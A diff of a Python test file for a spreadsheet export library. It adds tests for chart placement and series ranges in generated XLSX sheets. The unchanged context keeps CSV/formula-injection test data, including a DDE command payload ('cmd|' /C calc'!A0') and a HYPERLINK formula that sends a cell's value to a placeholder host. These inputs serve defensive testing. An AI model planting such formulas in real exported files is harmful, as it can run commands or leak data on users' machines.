@@ -11,7 +11,16 @@ from hypothesis import strategies as st
 
 from renfang.exchange.reading.spreadsheet import read_spreadsheet
 from renfang.exchange.safe_cells import guard, unguard
-from renfang.exchange.workbook import ExportColumn, Kind, TooLarge, csv_chunks, write_xlsx
+from renfang.exchange.workbook import (
+    ExportChart,
+    ExportColumn,
+    ExportSheet,
+    Kind,
+    TooLarge,
+    csv_chunks,
+    write_sheets,
+    write_xlsx,
+)
 
 LEADS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", " =", "\u3000@", "'=", "''+"]
 TAILS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"看")', "SUM(A1:A9)", "", "张三"]
@@ -140,3 +149,35 @@ def test_csv_comes_in_pieces():
     pieces = list(csv_chunks(COLUMNS[:1], (("字" * 100,) for _ in range(2000))))
     assert len(pieces) > 3
     assert b"".join(pieces).decode("utf-8-sig").count("\r\n") == 2001
+
+
+def test_charts_lie_below_the_rows_and_leave_out_the_totals():
+    rows = [["东区", Decimal("2.00"), Decimal("1.00")], ["合计", Decimal("2.00"), Decimal("1.00")]]
+    columns = [
+        ExportColumn("区划"),
+        ExportColumn("应缴", Kind.AMOUNT),
+        ExportColumn("实缴", Kind.AMOUNT),
+    ]
+    charts = [
+        ExportChart("应缴与实缴", (1, 2), "bar", stacked=True, totals=1),
+        ExportChart("实缴", (2,), "line", most=100),
+    ]
+    target = io.BytesIO()
+    assert write_sheets(target, [ExportSheet("收缴", columns, rows, charts)]) == [2]
+    sheet = openpyxl.load_workbook(target)["收缴"]
+    bars, line = sheet._charts
+    assert bars.anchor._from.row > 2
+    assert line.anchor._from.row > bars.anchor.to.row
+    first, second = bars.series
+    assert first.val.numRef.f == "收缴!$B$2"
+    assert second.tx.strRef.f.endswith("!$C$1")
+    assert line.series[0].val.numRef.f.endswith("!$C$2:$C$3")
+    assert line.y_axis.scaling.max == 100
+    assert sheet.cell(2, 2).value == 2
+
+
+def test_sheet_without_rows_has_no_chart():
+    target = io.BytesIO()
+    empty = ExportSheet("收缴", COLUMNS, [], [ExportChart("应缴", (1,))])
+    assert write_sheets(target, [empty]) == [0]
+    assert openpyxl.load_workbook(target)["收缴"]._charts == []
